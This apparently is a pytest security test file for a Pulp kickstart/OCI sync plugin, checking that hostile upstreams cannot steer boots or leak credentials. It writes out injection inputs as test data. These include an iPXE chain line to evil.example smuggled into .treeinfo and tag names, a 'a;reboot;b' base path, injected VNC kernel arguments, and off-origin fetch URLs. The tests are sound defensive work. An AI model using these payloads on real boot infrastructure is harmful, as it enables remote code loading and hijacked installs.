"""Hostile upstreams against the real stack: nothing they send steers a boot or leaks a secret.

Each test plays one attack the security review found (docs/security.md) and
checks the sync fails with a clear error, or ignores the value, and that what
Pulp serves is unchanged.
"""

import hashlib
import json
import re
import tempfile

import pytest
import requests

from pulp_kickstart_oci.pytest_plugin import unique
from pulp_kickstart_oci.testing import dnf, fedora
from tests.support.paginating_proxy import PagingProxy

from .conftest import progress, rewrite

EVIL = "http://evil.example/pwn.ipxe"


# -- 1. nothing from upstream becomes boot-script syntax ----------------------------------


def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
    kickstart_upstream,
    kickstart_publish_release,
    kickstart_oci_remote_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    kickstart_distribution_factory,
    kickstart_sync,
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    fails_and_changes_nothing,
):
    kickstart_publish_release(kickstart_upstream, "41", archs=("amd64",))
    repository = kickstart_repository_factory()
    kickstart_sync(repository, kickstart_oci_remote_factory(kickstart_upstream))
    menu_url = kickstart_distribution_factory(repository).base_url + "boot.ipxe"
    menu_before = requests.get(menu_url, timeout=30).text

    tree = kickstart_dnf_tree_factory(release="42")
    release = "[release]\nname = Fedora\nshort = Fedora\nversion = 42\n"
    rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
    remote = kickstart_dnf_remote_factory(kickstart_tree_server_factory(tree))
    message = fails_and_changes_nothing(repository, remote, "[release] version")
    assert "\n" not in message.split("[release] version", 1)[0][-200:]
    assert requests.get(menu_url, timeout=30).text == menu_before
    assert "evil" not in menu_before


def test_a_kernel_path_with_arguments_fails_naming_the_key(
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    fails_and_changes_nothing,
):
    tree = kickstart_dnf_tree_factory(release="42")
    rewrite(
        tree.root / ".treeinfo",
        "kernel = images/pxeboot/vmlinuz",
        "kernel = images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x",
    )
    fails_and_changes_nothing(
        kickstart_repository_factory(),
        kickstart_dnf_remote_factory(kickstart_tree_server_factory(tree)),
        "[images-x86_64] kernel",
        "inst.vnc",
    )


def test_tags_outside_the_oci_grammar_are_ignored_and_named(
    kickstart_upstream,
    kickstart_publish_release,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_distribution_factory,
    kickstart_sync,
    latest_version,
    trees,
):
    upstream = kickstart_upstream
    kickstart_publish_release(upstream, "42", archs=("amd64",))
    repository = kickstart_repository_factory()
    injected = ["42\n-amd64", f"42\nchain {EVIL}"]
    with PagingProxy(upstream.base, page_size=100, extra_tags=injected) as proxy:
        remote = kickstart_oci_remote_factory(
            url=proxy.url, upstream_name=upstream.name, include_tags=["*"]
        )
        task = kickstart_sync(repository, remote)
    synced = trees(latest_version(repository))
    assert {(t.version, t.arch) for t in synced} == {("42", "x86_64")}
    ignored = progress(task)["sync.ignored.tags"]
    assert ignored.total == 2 and "42\\n-amd64" in ignored.message
    base = kickstart_distribution_factory(repository).base_url
    menu = requests.get(base + "boot.ipxe", timeout=30).text
    assert "evil" not in menu and "chain http://" in menu


def test_a_base_path_with_script_syntax_is_refused(
    kickstart_bindings, kickstart_repository_factory
):
    repository = kickstart_repository_factory()
    body = {"name": unique("d"), "base_path": "a;reboot;b", "repository": repository.pulp_href}
    with pytest.raises(kickstart_bindings.ApiException) as raised:
        kickstart_bindings.DistributionsKickstartApi.create(body)
    assert raised.value.status == 400
    assert "base_path" in json.loads(raised.value.body)


@pytest.mark.parametrize("base_path", ["a" * 256, "/".join("s" * 9)])
def test_a_base_path_past_the_content_apps_caps_is_refused(
    base_path, kickstart_bindings, kickstart_repository_factory
):
    repository = kickstart_repository_factory()
    body = {"name": unique("d"), "base_path": base_path, "repository": repository.pulp_href}
    with pytest.raises(kickstart_bindings.ApiException) as raised:
        kickstart_bindings.DistributionsKickstartApi.create(body)
    assert raised.value.status == 400
    assert "at most 255 characters and 8 segments" in json.loads(raised.value.body)["base_path"][0]


# -- 3. requests and credentials stay where the admin pointed them --------------------------


def test_metadata_urls_outside_the_tree_are_never_fetched(
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    fails_and_changes_nothing,
):
    repository = kickstart_repository_factory()
    other = kickstart_tree_server_factory(kickstart_dnf_tree_factory(release="40"))
    tree = kickstart_dnf_tree_factory(release="42")
    repomd = tree.root / "repodata" / "repomd.xml"
    primary = re.search(r'href="(repodata/[^"]*primary[^"]*)"', repomd.read_text()).group(1)
    for target in (f"{other.url}/{primary}", f"//{other.url.split('//', 1)[1]}/{primary}"):
        rewrite(repomd, f'href="{primary}"', f'href="{target}"')
        remote = kickstart_dnf_remote_factory(
            kickstart_tree_server_factory(tree), username="user", password="pw-not-for-others"
        )
        message = fails_and_changes_nothing(repository, remote, "not a relative path")
        assert "pw-not-for-others" not in message
        rewrite(repomd, f'href="{target}"', f'href="{primary}"')
    assert other.requests == []

    rewrite(
        tree.root / ".treeinfo",
        "kernel = images/pxeboot/vmlinuz",
        f"kernel = {other.url}/images/pxeboot/vmlinuz",
    )
    remote = kickstart_dnf_remote_factory(kickstart_tree_server_factory(tree))
    fails_and_changes_nothing(repository, remote, "kernel")
    assert other.requests == []


def test_a_tag_list_that_continues_on_another_origin_is_not_followed(
    kickstart_workdir,
    kickstart_upstream,
    kickstart_publish_release,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_tree_server_factory,
    fails_and_changes_nothing,
):
    upstream = kickstart_upstream
    kickstart_publish_release(upstream, "42", archs=("amd64",))
    kickstart_publish_release(upstream, "43", archs=("amd64",))
    elsewhere = kickstart_tree_server_factory(dnf.DnfTree(tempfile.mkdtemp(dir=kickstart_workdir)))
    with PagingProxy(upstream.base, page_size=1, link_base=elsewhere.url) as proxy:
        remote = kickstart_oci_remote_factory(url=proxy.url, upstream_name=upstream.name)
        fails_and_changes_nothing(kickstart_repository_factory(), remote, "another origin")
    assert elsewhere.requests == []


def test_a_tag_list_that_never_ends_is_cut_at_its_cap(
    kickstart_upstream,
    kickstart_publish_release,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    fails_and_changes_nothing,
):
    upstream = kickstart_upstream
    kickstart_publish_release(upstream, "42", archs=("amd64",))
    with PagingProxy(upstream.base, page_size=100, pad_bytes=5 * 1024 * 1024) as proxy:
        remote = kickstart_oci_remote_factory(url=proxy.url, upstream_name=upstream.name)
        fails_and_changes_nothing(
            kickstart_repository_factory(), remote, "KICKSTART_MAX_TAG_PAGE_BYTES"
        )


def test_a_treeinfo_past_its_cap_fails_naming_the_setting(
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    fails_and_changes_nothing,
):
    tree = kickstart_dnf_tree_factory(release="42")
    with open(tree.root / ".treeinfo", "a") as treeinfo:
        treeinfo.write(("# padding\n" * 1024) * 120)  # 1.2 MiB
    fails_and_changes_nothing(
        kickstart_repository_factory(),
        kickstart_dnf_remote_factory(kickstart_tree_server_factory(tree)),
        "KICKSTART_MAX_TREEINFO_BYTES",
    )


# -- 5. one tenant's sync never changes or breaks another's --------------------------------


def test_one_manifest_under_two_releases_in_one_sync_is_two_trees(
    kickstart_bindings,
    kickstart_upstream,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_sync,
    latest_version,
    trees,
    list_all,
):
    upstream = kickstart_upstream
    files = fedora.tree_files("42", "amd64", salt=upstream.name)
    digest, _ = upstream.netboot("42-amd64", files)
    upstream.netboot("43-amd64", files)
    repository = kickstart_repository_factory()
    kickstart_sync(repository, kickstart_oci_remote_factory(upstream))
    synced = trees(latest_version(repository))
    assert sorted((t.version, t.digest) for t in synced) == [("42", digest), ("43", digest)]
    assert len({t.identity for t in synced}) == 2
    (only,) = list_all(kickstart_bindings.ContentTreesApi.list, identity=synced[0].identity)
    assert only.version == synced[0].version


@pytest.mark.parametrize("ambiguous", ["manifest", "index"])
def test_a_manifest_or_index_read_two_ways_fails_the_sync_naming_it(
    ambiguous,
    kickstart_upstream,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_sync,
    fails_and_changes_nothing,
):
    """A key twice in a manifest or an index: Python reads the last value, another parser
    the first. Its bytes would be kept, pushed back and replicated, so the sync refuses it
    (found attacking the kept bytes: an import or replica refused what a sync had kept)."""
    upstream = kickstart_upstream
    files = fedora.tree_files("42", "amd64", salt=upstream.name)
    digest, size = upstream.netboot("42-amd64", files)
    repository = kickstart_repository_factory()
    kickstart_sync(repository, kickstart_oci_remote_factory(upstream))  # an honest first sync
    # The same tag (or an index over it) again, with a key twice: an empty list first, the
    # honest one last, which is the one Python's json reads.
    if ambiguous == "manifest":
        raw = requests.get(
            f"{upstream.base}/v2/{upstream.name}/manifests/{digest}",
            headers={"Accept": "application/vnd.oci.image.manifest.v1+json"},
            timeout=30,
        ).content
        bad, _ = upstream.manifest("42-amd64", b'{"layers": [], ' + raw[1:])
        expected = ["tag 42-amd64", bad, "'layers' appears twice"]
    else:
        index = {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": [
                {
                    "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "digest": digest,
                    "size": size,
                    "platform": {"architecture": "amd64", "os": "linux"},
                }
            ],
        }
        raw = json.dumps(index).encode()
        bad, _ = upstream.manifest("42", b'{"manifests": [], ' + raw[1:])
        expected = ["tag 42", "'manifests' appears twice"]
    remote = kickstart_oci_remote_factory(upstream)
    message = fails_and_changes_nothing(repository, remote, *expected)
    assert message.endswith("No repository version was created."), message


def test_one_manifest_under_two_releases_is_two_trees(
    kickstart_upstream,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_distribution_factory,
    kickstart_sync,
    latest_version,
    trees,
):
    upstream = kickstart_upstream
    files = fedora.tree_files("42", "amd64", salt=upstream.name)
    digest, _ = upstream.netboot("42-amd64", files)
    repository = kickstart_repository_factory()
    kickstart_sync(repository, kickstart_oci_remote_factory(upstream, include_tags=["42-*"]))
    upstream.netboot("43-amd64", files)  # the same manifest bytes under another release
    other = kickstart_repository_factory()

    kickstart_sync(other, kickstart_oci_remote_factory(upstream, include_tags=["43-*"]))

    (first,) = trees(latest_version(repository))
    (second,) = trees(latest_version(other))
    assert first.digest == second.digest == digest
    assert (first.version, second.version) == ("42", "43")
    kernel = dict(files)["vmlinuz"]
    for repo, release in ((repository, "42"), (other, "43")):
        base = kickstart_distribution_factory(repo).base_url
        url = f"{base}{release}/x86_64/images/pxeboot/vmlinuz"
        assert requests.get(url, timeout=30).content == kernel


# -- 6. fail closed -------------------------------------------------------------------------


def test_a_stored_tree_is_not_kept_under_gpg_keys_without_a_valid_signature(
    kickstart_workdir,
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    kickstart_sync,
    latest_version,
    trees,
    signatures,
):
    signer = dnf.make_key("Hostile Signer", kickstart_workdir)
    trusted = dnf.make_key("Trusted Signer", kickstart_workdir)
    try:
        tree = kickstart_dnf_tree_factory(release="42", key=signer)
        server = kickstart_tree_server_factory(tree)
        # Stored once, without keys.
        kickstart_sync(kickstart_repository_factory(), kickstart_dnf_remote_factory(server))
        guarded = kickstart_repository_factory()
        task = kickstart_sync(
            guarded,
            kickstart_dnf_remote_factory(server, gpg_keys=trusted.public_armored),
            expect_failure=True,
        )
        assert task.state == "failed"
        assert "not in signature_keys" in task.error["description"]
        assert trees(latest_version(guarded)) == []

        # The signer's key verifies the stored tree (its RPMs are fetched again, not
        # unpacked); that check is content of the new version (a KickstartSignature of
        # kind rpm naming the keyring), so the next keyed sync fetches nothing.
        keyed = kickstart_dnf_remote_factory(server, gpg_keys=signer.public_armored)
        server.requests.clear()
        verified = kickstart_sync(guarded, keyed)
        assert "sync.verifying.packages" in progress(verified)
        assert [p for p in server.requests if p.endswith(".rpm")]
        (kept,) = trees(latest_version(guarded))
        assert "verified_with" not in kept.source  # the stored tree is never written
        (check,) = signatures(latest_version(guarded), kept)
        assert (check.kind, check.key) == ("rpm", signer.fingerprint.upper())
        assert (check.signed_digest, check.reference) == (kept.digest, kept.source["url"])
        server.requests.clear()
        again = kickstart_sync(guarded, keyed)
        assert "sync.verifying.packages" not in progress(again)
        assert not [p for p in server.requests if p.endswith(".rpm")]
    finally:
        signer.close()
        trusted.close()


def test_a_mirror_sync_that_would_remove_every_tree_needs_allow_empty(
    kickstart_upstream,
    kickstart_publish_release,
    kickstart_oci_remote_factory,
    kickstart_repository_factory,
    kickstart_sync,
    latest_version,
    trees,
):
    upstream = kickstart_upstream
    kickstart_publish_release(upstream, "42", archs=("amd64",))
    repository = kickstart_repository_factory()
    kickstart_sync(repository, kickstart_oci_remote_factory(upstream))
    held = latest_version(repository)
    nothing = kickstart_oci_remote_factory(upstream, include_tags=["no-such-release*"])

    task = kickstart_sync(repository, nothing, mirror=True, expect_failure=True)
    assert task.state == "failed"
    assert "allow_empty" in task.error["description"]
    assert latest_version(repository) == held

    kickstart_sync(repository, nothing, mirror=True, allow_empty=True)
    assert trees(latest_version(repository)) == []


def test_non_sha256_checksums_are_verified_and_unknown_types_fail(
    kickstart_dnf_tree_factory,
    kickstart_tree_server_factory,
    kickstart_dnf_remote_factory,
    kickstart_repository_factory,
    kickstart_sync,
    latest_version,
    trees,
    fails_and_changes_nothing,
):
    repository = kickstart_repository_factory()
    # sha512 (a digest Pulp computes while downloading) and md5 (one it does not),
    # each on a tree of its own: a tree Pulp already stores would be reused.
    for algorithm in ("sha512", "md5", "crc32"):
        tree = kickstart_dnf_tree_factory(release="42")
        treeinfo = tree.root / ".treeinfo"
        stage2 = tree.images["images/install.img"]
        sha256_line = f"images/install.img = sha256:{hashlib.sha256(stage2).hexdigest()}"
        server = kickstart_tree_server_factory(tree)
        if algorithm == "crc32":
            rewrite(treeinfo, sha256_line, "images/install.img = crc32:abcd1234")
            fails_and_changes_nothing(repository, kickstart_dnf_remote_factory(server), "'crc32'")
            continue
        wrong = f"images/install.img = {algorithm}:{hashlib.new(algorithm, b'x').hexdigest()}"
        rewrite(treeinfo, sha256_line, wrong)
        fails_and_changes_nothing(
            repository, kickstart_dnf_remote_factory(server), "images/install.img", algorithm
        )
        right = f"images/install.img = {algorithm}:{hashlib.new(algorithm, stage2).hexdigest()}"
        rewrite(treeinfo, wrong, right)
        kickstart_sync(repository, kickstart_dnf_remote_factory(server))
        (synced,) = trees(latest_version(repository))
        assert any(f"verified against its {algorithm}" in w for w in synced.warnings)
        stored = next(f for f in synced.files if f.path == "images/install.img")
        assert stored.sha256 == hashlib.sha256(stage2).hexdigest()
